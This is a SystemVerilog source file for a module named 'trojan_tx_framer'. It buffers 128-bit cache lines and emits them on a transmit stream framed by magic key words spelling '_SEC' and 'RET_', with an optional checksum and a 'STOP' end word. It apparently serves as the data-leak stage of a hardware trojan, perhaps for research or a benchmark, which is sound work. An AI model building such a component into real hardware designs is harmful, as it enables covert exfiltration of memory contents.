// File: rtl/trojan_tx_framer.sv
// ============================================================================
// Module  : trojan_tx_framer
// Brief   : Buffers 128-bit cache lines and emits them on the TX word stream
//           framed as KEY0, KEY1, payload, [checksum], END.
//           Optional macro TROJ_TX_CHECKSUM_EN adds an XOR checksum word.
// Revision: 1.0 - initial release
// ============================================================================
`default_nettype none

module trojan_tx_framer #(
  parameter int          DEPTH    = 24,
  parameter logic [31:0] KEY0     = 32'h5f534543,
  parameter logic [31:0] KEY1     = 32'h5245545f,
  parameter logic [31:0] END_WORD = 32'h53544F50
) (
  input  logic         i_clk,
  input  logic         i_rst_n,
  input  logic         i_load_valid,
  input  logic [127:0] i_load_data,
  output logic         o_load_ready,
  input  logic         i_send,
  output logic [31:0]  o_tx_data,
  output logic         o_tx_valid,
  input  logic         i_tx_ready,
  output logic         o_busy,
  output logic         o_done,
  output logic         o_overflow,
  output logic         o_collision
);

  localparam int c_cw    = $clog2(DEPTH + 1);
  localparam int c_lines = DEPTH / 4;
  localparam int c_lw    = (c_lines > 1) ? $clog2(c_lines) : 1;

  typedef enum logic [2:0] {
    ST_IDLE    = 3'd0,
    ST_KEY0    = 3'd1,
    ST_KEY1    = 3'd2,
    ST_PAYLOAD = 3'd3,
    ST_CSUM    = 3'd4,
    ST_END     = 3'd5
  } state_t;

`ifdef TROJ_TX_CHECKSUM_EN
  localparam state_t c_after_pay = ST_CSUM;
`else
  localparam state_t c_after_pay = ST_END;
`endif

  state_t            r_state;
  state_t            w_next;
  logic [c_cw-1:0]   r_count;
  logic [c_cw-1:0]   r_rd_ptr;
  logic [127:0]      r_buf [c_lines];
  logic              r_done;
  logic              r_overflow;
  logic              r_collision;
`ifdef TROJ_TX_CHECKSUM_EN
  logic [31:0]       r_csum;
`endif

  logic              w_idle;
  logic              w_hs;
  logic              w_room;
  logic              w_load;
  logic              w_last;
  logic              w_raw_is_end;
  logic [c_lw-1:0]   w_wr_line;
  logic [c_lw-1:0]   w_rd_line;
  logic [31:0]       w_raw_word;
  logic [31:0]       w_pay_word;

  assign w_idle       = (r_state == ST_IDLE);
  assign w_hs         = o_tx_valid && i_tx_ready;
  assign w_room       = ({1'b0, r_count} + (c_cw+1)'(4)) <= (c_cw+1)'(DEPTH);
  assign w_load       = w_idle && i_load_valid && w_room;
  assign w_wr_line    = c_lw'(r_count >> 2);
  assign w_rd_line    = c_lw'(r_rd_ptr >> 2);
  assign w_raw_word   = r_buf[w_rd_line][32*r_rd_ptr[1:0] +: 32];
  assign w_raw_is_end = (w_raw_word == END_WORD);
  // A literal END_WORD in the payload would terminate the receiver early.
  assign w_pay_word   = w_raw_is_end ? 32'h0 : w_raw_word;
  assign w_last       = ((r_rd_ptr + c_cw'(1)) == r_count);

  // Gated with reset so every output reads 0 while reset is held.
  assign o_load_ready = w_idle && i_rst_n;
  assign o_busy       = !w_idle;
  assign o_tx_valid   = !w_idle;
  assign o_done       = r_done;
  assign o_overflow   = r_overflow;
  assign o_collision  = r_collision;

  always_comb begin
    w_next = r_state;
    case (r_state)
      ST_IDLE:    if (i_send) w_next = ST_KEY0;
      ST_KEY0:    if (w_hs) w_next = ST_KEY1;
      ST_KEY1:    if (w_hs) w_next = (r_count == '0) ? c_after_pay : ST_PAYLOAD;
      ST_PAYLOAD: if (w_hs && w_last) w_next = c_after_pay;
      ST_CSUM:    if (w_hs) w_next = ST_END;
      ST_END:     if (w_hs) w_next = ST_IDLE;
      default:    w_next = ST_IDLE;
    endcase
  end

  always_comb begin
    o_tx_data = 32'h0;
    case (r_state)
      ST_KEY0:    o_tx_data = KEY0;
      ST_KEY1:    o_tx_data = KEY1;
      ST_PAYLOAD: o_tx_data = w_pay_word;
`ifdef TROJ_TX_CHECKSUM_EN
      ST_CSUM:    o_tx_data = r_csum;
`endif
      ST_END:     o_tx_data = END_WORD;
      default:    o_tx_data = 32'h0;
    endcase
  end

  always_ff @(posedge i_clk or negedge i_rst_n) begin
    if (!i_rst_n) begin
      r_state     <= ST_IDLE;
      r_count     <= '0;
      r_rd_ptr    <= '0;
      r_done      <= 1'b0;
      r_overflow  <= 1'b0;
      r_collision <= 1'b0;
`ifdef TROJ_TX_CHECKSUM_EN
      r_csum      <= 32'h0;
`endif
    end else begin
      r_state <= w_next;
      r_done  <= (r_state == ST_END) && w_hs;
      if (w_idle) begin
        if (w_load) r_count <= r_count + c_cw'(4);
        if (i_send) begin
          r_overflow  <= 1'b0;
          r_collision <= 1'b0;
          r_rd_ptr    <= '0;
`ifdef TROJ_TX_CHECKSUM_EN
          r_csum      <= 32'h0;
`endif
        end
        // A drop in the send cycle still belongs to this frame, so set wins.
        if (i_load_valid && !w_room) r_overflow <= 1'b1;
      end
      if (r_state == ST_PAYLOAD && w_hs) begin
        r_rd_ptr <= r_rd_ptr + c_cw'(1);
        if (w_raw_is_end) r_collision <= 1'b1;
`ifdef TROJ_TX_CHECKSUM_EN
        r_csum <= r_csum ^ w_pay_word;
`endif
      end
      if (r_state == ST_END && w_hs) begin
        r_count  <= '0;
        r_rd_ptr <= '0;
      end
    end
  end

  always_ff @(posedge i_clk) begin
    if (w_load) r_buf[w_wr_line] <= i_load_data;
  end

endmodule

`default_nettype wire
